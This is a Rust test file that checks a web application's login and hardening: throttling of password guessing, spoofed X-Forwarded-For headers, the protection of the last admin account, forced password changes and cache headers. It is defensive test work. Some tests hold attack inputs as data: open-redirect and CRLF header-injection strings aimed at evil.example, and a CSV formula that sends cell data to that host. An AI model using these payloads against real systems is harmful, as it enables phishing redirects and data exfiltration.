//! Login and web hardening (issue 14, part 5), tried as an attacker would: parallel wrong
//! passwords, a stranger locking out the owner, redirects off-site, formulas in exports, the
//! last national admin, and passwords someone else set.

use crate::common::{Browser, TestApp, csrf_of};
use serde_json::{Value, json};

fn fields(body: &Value) -> Vec<String> {
    body["errors"]
        .as_array()
        .map(|a| a.iter().map(|e| e["field"].as_str().unwrap().to_string()).collect())
        .unwrap_or_default()
}

async fn login_from(app: &TestApp, forwarded: &str, username: &str, password: &str) -> reqwest::Response {
    app.client
        .post(app.url("/api/v1/auth/token"))
        .header("x-forwarded-for", forwarded)
        .json(&json!({"username": username, "password": password}))
        .send()
        .await
        .unwrap()
}

/// 16 wrong passwords at once: the reservation is written before argon2 runs, so no more
/// than the allowance (5) reach the password check; the rest wait (429 with Retry-After).
#[tokio::test]
async fn parallel_wrong_passwords_never_all_reach_the_check() {
    let app = TestApp::spawn().await;
    let attempts = (0..16).map(|i| {
        let (client, url) = (app.client.clone(), app.url("/api/v1/auth/token"));
        async move {
            let r = client
                .post(url)
                .json(&json!({"username": "admin", "password": format!("wrong-password-{i}")}))
                .send()
                .await
                .unwrap();
            let retry = r.headers().get("retry-after").map(|v| v.to_str().unwrap().to_string());
            (r.status().as_u16(), retry)
        }
    });
    let mut set = tokio::task::JoinSet::new();
    for a in attempts {
        set.spawn(a);
    }
    let results: Vec<(u16, Option<String>)> = set.join_all().await;
    let checked = results.iter().filter(|(s, _)| *s == 401).count();
    let refused = results.iter().filter(|(s, r)| *s == 429 && r.is_some()).count();
    assert_eq!(checked + refused, 16, "{results:?}");
    assert!(checked <= 5, "at most the allowance reaches argon2: {results:?}");
    assert!(refused >= 11, "{results:?}");
}

/// A stranger's failures slow the stranger, not the owner at another address; behind the
/// proxy the address is the rightmost X-Forwarded-For entry (the client writes the left).
#[tokio::test]
async fn a_stranger_cannot_lock_out_the_owner_and_xff_is_read_from_the_right() {
    let app = TestApp::spawn_with(|c| c.trust_proxy = true).await;
    let stranger = "203.0.113.9";
    let owner = "198.51.100.7";
    let mut statuses = vec![];
    for i in 0..8 {
        statuses.push(login_from(&app, stranger, "admin", &format!("guess-{i}")).await.status().as_u16());
    }
    assert_eq!(&statuses[..5], &[401; 5], "{statuses:?}");
    assert!(statuses[5..].iter().all(|s| *s == 429), "{statuses:?}");
    // Even the right password waits at the stranger's address.
    let r = login_from(&app, stranger, "admin", common_admin_password()).await;
    assert_eq!(r.status().as_u16(), 429);
    assert!(r.headers()["retry-after"].to_str().unwrap().parse::<i64>().unwrap() >= 1);
    // The stranger claiming the owner's address on the left is still the stranger.
    let spoofed = format!("{owner}, {stranger}");
    assert_eq!(login_from(&app, &spoofed, "admin", common_admin_password()).await.status().as_u16(), 429);
    // A garbage rightmost entry is ignored (the socket address counts), never a 500.
    let r = login_from(&app, "not-an-ip", "nobody", "x-password-1").await;
    assert_eq!(r.status().as_u16(), 401);
    // The owner, from their own address, logs in at once.
    let r = login_from(&app, owner, "admin", common_admin_password()).await;
    assert_eq!(r.status().as_u16(), 200, "the owner is not locked out by a stranger");
}

fn common_admin_password() -> &'static str {
    crate::common::ADMIN_PASSWORD
}

/// `next=` only ever leads to a path on this site: tabs, CR/LF, `//`, `/\` and backslashes
/// go to `/`, and nothing answers 500.
#[tokio::test]
async fn next_stays_on_site_and_never_fails() {
    let app = TestApp::spawn().await;
    let bad = [
        "/%09/evil.example/x",
        "%2F%2Fevil.example",
        "/%5Cevil.example",
        "%2F%5Cevil.example",
        "/x%0D%0ASet-Cookie:%20a=b",
        "/x%0Ay",
        "https://evil.example/",
        "/a%5Cb",
        "/%7F",
    ];
    for next in bad {
        let r = app.client.get(app.url(&format!("/lang/en?next={next}"))).send().await.unwrap();
        assert_eq!(r.status().as_u16(), 303, "{next}");
        assert_eq!(r.headers()["location"], "/", "{next}");
    }
    let r = app.client.get(app.url("/lang/en?next=/persons%3Fq%3Da")).send().await.unwrap();
    assert_eq!(r.headers()["location"], "/persons?q=a");

    // The login form's next follows the same rule.
    let b = Browser::new(&app);
    let (_, html) = b.get("/login?next=/%09/evil.example/x").await;
    assert!(!html.contains("evil.example"), "the form does not carry the bad target");
    let csrf = csrf_of(&html);
    let r = b
        .post_form(
            "/login",
            &[
                ("username", "admin"),
                ("password", crate::common::ADMIN_PASSWORD),
                ("_csrf", &csrf),
                ("next", "/\t/evil.example/x"),
            ],
        )
        .await;
    assert_eq!(r.status().as_u16(), 303);
    assert_eq!(r.headers()["location"], "/");
}

/// A formula typed into a training's title is shown in the CSV export, never run; the
/// download carries its own sandbox policy.
#[tokio::test]
async fn csv_export_neutralises_formulas() {
    let app = TestApp::spawn().await;
    let village = "53.07.01.2001";
    let fac = app.user_token("fasilitator", "facilitator", Some(village)).await;
    let today = crate::common::today();
    let day = |n: i64| (today - time::Duration::days(n)).to_string();
    let title = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
    let body = json!({"village_code": village, "topic": "financial_literacy", "title": title,
        "organiser": "regency_office", "organiser_name": "Disnaker Sikka", "starts_on": day(4), "ends_on": day(2),
        "place": "Balai desa", "trainer": "Ibu Rina"});
    let (s, t) = app.post_json("/api/v1/trainings", Some(&fac), &body).await;
    assert_eq!(s, 201, "{t}");
    let b = Browser::new(&app);
    b.login("fasilitator", "a-long-password").await;
    let r = b.client.get(format!("{}/trainings?format=csv", app.base)).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-security-policy"], "default-src 'none'; sandbox");
    let csv = r.text().await.unwrap();
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(!csv.contains(",\"=HYPERLINK(") && !csv.contains(",=HYPERLINK("), "{csv}");
}

async fn admin_id(app: &TestApp, token: &str) -> i64 {
    app.get_json("/api/v1/me", Some(token)).await.1["id"].as_i64().unwrap()
}

/// The only national admin cannot demote or disable itself (API and page alike); with a
/// second active admin, that one may demote the first, but nobody removes the last.
#[tokio::test]
async fn the_last_national_admin_stays() {
    let app = TestApp::spawn().await;
    let admin = admin_id(&app, &app.admin_token).await;
    let me = format!("/api/v1/users/{admin}");
    let (s, body) =
        app.patch_json(&me, &app.admin_token, &json!({"role": "regency_officer", "region_code": "53.10"})).await;
    assert_eq!((s, fields(&body)), (422, vec!["role".to_string()]), "{body}");
    let (s, body) = app.patch_json(&me, &app.admin_token, &json!({"disabled": true})).await;
    assert_eq!((s, fields(&body)), (422, vec!["disabled".to_string()]), "{body}");
    let (_, u) = app.get_json(&me, Some(&app.admin_token)).await;
    assert_eq!((u["role"].as_str(), u["disabled"].as_bool()), (Some("national_admin"), Some(false)));

    // The page refuses the same, with the field's message.
    let b = Browser::new(&app);
    b.login("admin", crate::common::ADMIN_PASSWORD).await;
    let csrf = b.csrf().await;
    let r = b
        .post_form(
            &format!("/admin/users/{admin}/role"),
            &[("_csrf", &csrf), ("role", "regency_officer"), ("region_code", "53.10")],
        )
        .await;
    assert_eq!(r.status().as_u16(), 422);
    assert!(r.text().await.unwrap().contains("field-error"));
    let r = b.post_form(&format!("/admin/users/{admin}/status"), &[("_csrf", &csrf), ("disabled", "1")]).await;
    assert_eq!(r.status().as_u16(), 422);

    // Two admins demoting each other at the same moment: one goes through, never both.
    let second = app.user_token("admin.dua", "national_admin", None).await;
    let second_id = admin_id(&app, &second).await;
    let demote = json!({"role": "regency_officer", "region_code": "53.10"});
    let theirs = format!("/api/v1/users/{second_id}");
    let (a, b2) =
        tokio::join!(app.patch_json(&theirs, &app.admin_token, &demote), app.patch_json(&me, &second, &demote),);
    let ok = [a.0, b2.0].iter().filter(|s| **s == 200).count();
    assert_eq!(ok, 1, "exactly one demotion: {a:?} {b2:?}");
    let admins: i64 = {
        let rows: (i64,) = match &app.db {
            store::Db::Sqlite(p, _) => sqlx::query_as(
                "SELECT COUNT(*) FROM users WHERE role = 'national_admin' AND region_code IS NULL AND disabled = FALSE",
            )
            .fetch_one(p)
            .await
            .unwrap(),
            store::Db::Postgres(p) => sqlx::query_as(
                "SELECT COUNT(*) FROM users WHERE role = 'national_admin' AND region_code IS NULL AND disabled = FALSE",
            )
            .fetch_one(p)
            .await
            .unwrap(),
        };
        rows.0
    };
    assert_eq!(admins, 1);
}

/// With two active admins, the other one may demote the first (sequentially).
#[tokio::test]
async fn another_admin_may_demote_when_one_remains() {
    let app = TestApp::spawn().await;
    let admin = admin_id(&app, &app.admin_token).await;
    let second = app.user_token("admin.dua", "national_admin", None).await;
    let second_id = admin_id(&app, &second).await;
    // Still not itself, even with another admin present.
    let (s, body) = app.patch_json(&format!("/api/v1/users/{second_id}"), &second, &json!({"disabled": true})).await;
    assert_eq!((s, fields(&body)), (422, vec!["disabled".to_string()]));
    let (s, body) = app
        .patch_json(
            &format!("/api/v1/users/{admin}"),
            &second,
            &json!({"role": "regency_officer", "region_code": "53.10"}),
        )
        .await;
    assert_eq!(s, 200, "{body}");
    // Now admin.dua is the last one; the demoted account cannot act, and a disable is refused.
    let (s, body) = app.patch_json(&format!("/api/v1/users/{second_id}"), &second, &json!({"disabled": true})).await;
    assert_eq!((s, fields(&body)), (422, vec!["disabled".to_string()]));
}

/// An account created by an admin must choose its own password before anything else, on the
/// API (403 `password_change_required`, except the change endpoint) and on the pages
/// (redirected to the form); then everything works with the new password only.
#[tokio::test]
async fn a_password_someone_else_set_must_be_changed() {
    let app = TestApp::spawn().await;
    let village = "53.07.01.2001";
    let (s, u) = app
        .post_json(
            "/api/v1/users",
            Some(&app.admin_token),
            &json!({"username": "siti", "password": "set-by-admin-1", "full_name": "Siti", "role": "village_officer",
                    "region_code": village}),
        )
        .await;
    assert_eq!(s, 201, "{u}");
    assert_eq!(u["must_change_password"], true);
    let token = app.token("siti", "set-by-admin-1").await;
    let (s, body) = app.get_json(&format!("/api/v1/villages/{village}"), Some(&token)).await;
    assert_eq!((s, body["error"].as_str()), (403, Some("password_change_required")), "{body}");
    let (s, me) = app.get_json("/api/v1/me", Some(&token)).await;
    assert_eq!((s, me["must_change_password"].as_bool()), (200, Some(true)));

    let change = |current: &str, new: &str, confirm: &str| json!({"current_password": current, "new_password": new, "confirm_password": confirm});
    let (s, body) = app
        .post_json("/api/v1/auth/password", Some(&token), &change("wrong-one-123", "my-own-pass-1", "my-own-pass-1"))
        .await;
    assert_eq!((s, fields(&body)), (422, vec!["current_password".to_string()]), "{body}");
    let (s, body) = app
        .post_json("/api/v1/auth/password", Some(&token), &change("set-by-admin-1", "my-own-pass-1", "my-own-pass-2"))
        .await;
    assert_eq!((s, fields(&body)), (422, vec!["confirm_password".to_string()]), "{body}");
    let (s, body) =
        app.post_json("/api/v1/auth/password", Some(&token), &change("set-by-admin-1", "short", "short")).await;
    assert_eq!((s, fields(&body)), (422, vec!["new_password".to_string()]), "{body}");
    let (s, body) = app
        .post_json("/api/v1/auth/password", Some(&token), &change("set-by-admin-1", "my-own-pass-1", "my-own-pass-1"))
        .await;
    assert_eq!(s, 200, "{body}");
    let fresh = body["token"].as_str().unwrap().to_string();
    assert_eq!(app.get_json("/api/v1/me", Some(&token)).await.0, 401, "the old token ended");
    assert_eq!(app.get_json(&format!("/api/v1/villages/{village}"), Some(&fresh)).await.0, 200);
    let (s, _) =
        app.post_json("/api/v1/auth/token", None, &json!({"username": "siti", "password": "set-by-admin-1"})).await;
    assert_eq!(s, 401);
    app.token("siti", "my-own-pass-1").await;

    // The admin resets it: the flag is back. On the pages the form comes first.
    let (s, _) = app
        .patch_json(&format!("/api/v1/users/{}", u["id"]), &app.admin_token, &json!({"password": "reset-by-admin-2"}))
        .await;
    assert_eq!(s, 200);
    let b = Browser::new(&app);
    let (_, html) = b.get("/login").await;
    let csrf = csrf_of(&html);
    let r = b
        .post_form(
            "/login",
            &[("username", "siti"), ("password", "reset-by-admin-2"), ("_csrf", &csrf), ("next", "/persons")],
        )
        .await;
    assert_eq!((r.status().as_u16(), r.headers()["location"].to_str().unwrap()), (303, "/account/password"));
    let r = b.client.get(format!("{}/persons", b.base)).send().await.unwrap();
    assert_eq!((r.status().as_u16(), r.headers()["location"].to_str().unwrap()), (303, "/account/password"));
    let (s, html) = b.get("/account/password").await;
    assert_eq!(s, 200);
    assert!(html.contains("current_password"));
    let csrf = csrf_of(&html);
    let form = |cur: &'static str, new: &'static str, conf: &'static str| {
        vec![
            ("_csrf", csrf.clone()),
            ("current_password", cur.into()),
            ("new_password", new.into()),
            ("confirm_password", conf.into()),
        ]
    };
    let post = |f: Vec<(&'static str, String)>| {
        let (client, url) = (b.client.clone(), format!("{}/account/password", b.base));
        async move { client.post(url).form(&f).send().await.unwrap() }
    };
    let r = post(form("reset-by-admin-2", "mine-again-12", "different-12")).await;
    assert_eq!(r.status().as_u16(), 422);
    assert!(r.text().await.unwrap().contains("field-error"));
    let r = post(form("reset-by-admin-2", "mine-again-12", "mine-again-12")).await;
    assert_eq!((r.status().as_u16(), r.headers()["location"].to_str().unwrap()), (303, "/account/password?saved=1"));
    let (s, _) = b.get("/persons").await;
    assert_eq!(s, 200, "the browser keeps a fresh session and may work now");

    // Any account may change its own password later too (no flag needed).
    let csrf = b.csrf().await;
    let r = b
        .post_form(
            "/account/password",
            &[
                ("_csrf", &csrf),
                ("current_password", "mine-again-12"),
                ("new_password", "third-one-123"),
                ("confirm_password", "third-one-123"),
            ],
        )
        .await;
    assert_eq!(r.status().as_u16(), 303);
    app.token("siti", "third-one-123").await;
}

/// A session left open must not let anyone guess the account's password through the change
/// form: wrong current passwords count like failed logins (allowance 5), then 429 with
/// Retry-After on the API and the form; the right password waits too, until the delay ends.
#[tokio::test]
async fn guessing_the_current_password_is_throttled_like_a_login() {
    let app = TestApp::spawn().await;
    app.create_user("yohanes", "village_officer", Some("53.07.01.2001")).await;
    let token = app.token("yohanes", "a-long-password").await;
    // A browser signed in before the guessing starts (a login would wait too afterwards).
    let b = Browser::new(&app);
    b.login("yohanes", "a-long-password").await;
    let guess = |current: &str| json!({"current_password": current, "new_password": "my-own-pass-1", "confirm_password": "my-own-pass-1"});
    let mut statuses = Vec::new();
    for i in 0..7 {
        let r = app.post_json("/api/v1/auth/password", Some(&token), &guess(&format!("guess-number-{i}"))).await;
        statuses.push(r.0);
    }
    assert_eq!(&statuses[..5], &[422; 5], "{statuses:?}");
    assert!(statuses[5..].iter().all(|s| *s == 429), "{statuses:?}");
    let (s, body) = app.post_json("/api/v1/auth/password", Some(&token), &guess("a-long-password")).await;
    assert_eq!(s, 429, "even the right password waits: {body}");
    // The page says so in Indonesian, on the form, with the same status.
    let (_, html) = b.get("/account/password").await;
    let csrf = csrf_of(&html);
    let r = b
        .post_form(
            "/account/password",
            &[
                ("_csrf", csrf.as_str()),
                ("current_password", "guess-again"),
                ("new_password", "my-own-pass-1"),
                ("confirm_password", "my-own-pass-1"),
            ],
        )
        .await;
    assert_eq!(r.status().as_u16(), 429);
    assert!(r.headers().contains_key("retry-after"));
    assert!(r.text().await.unwrap().contains("Terlalu banyak percobaan gagal"));
}

/// `no-store` only where personal data can be: a signed-in page, an API answer, an export.
/// Public pages may be cached (and the back button works from cache); the favicon exists.
#[tokio::test]
async fn cache_policy_by_route_group() {
    let app = TestApp::spawn().await;
    let cache = |r: &reqwest::Response| {
        r.headers().get("cache-control").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default()
    };
    let anon = reqwest::Client::new();
    for path in ["/portal", "/statistik", "/api/v1/open/indicators", "/api/docs", "/cek"] {
        let r = anon.get(app.url(path)).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        let c = cache(&r);
        assert!(c.starts_with("public, max-age="), "{path}: {c}");
        assert_eq!(r.headers()["vary"], "Cookie", "{path}");
    }
    let r = anon.get(app.url("/login")).send().await.unwrap();
    assert_eq!(cache(&r), "private, no-cache");
    let r = anon.get(app.url("/favicon.ico")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "image/x-icon");
    assert!(cache(&r).starts_with("public"), "{}", cache(&r));
    assert_eq!(&r.bytes().await.unwrap()[..4], &[0, 0, 1, 0], "an ICO file");

    let b = Browser::new(&app);
    b.login("admin", crate::common::ADMIN_PASSWORD).await;
    for path in ["/", "/persons", "/monitoring", "/admin/users"] {
        let r = b.client.get(format!("{}{path}", app.base)).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        assert_eq!(cache(&r), "no-store", "{path}");
    }
    let r = app.client.get(app.url("/api/v1/persons")).bearer_auth(&app.admin_token).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(cache(&r), "no-store");
    // A public page that bounces (a bad query) is not cached either.
    let r = anon.get(app.url("/statistik?from=2020-13")).send().await.unwrap();
    assert_eq!(cache(&r), "no-store");
}
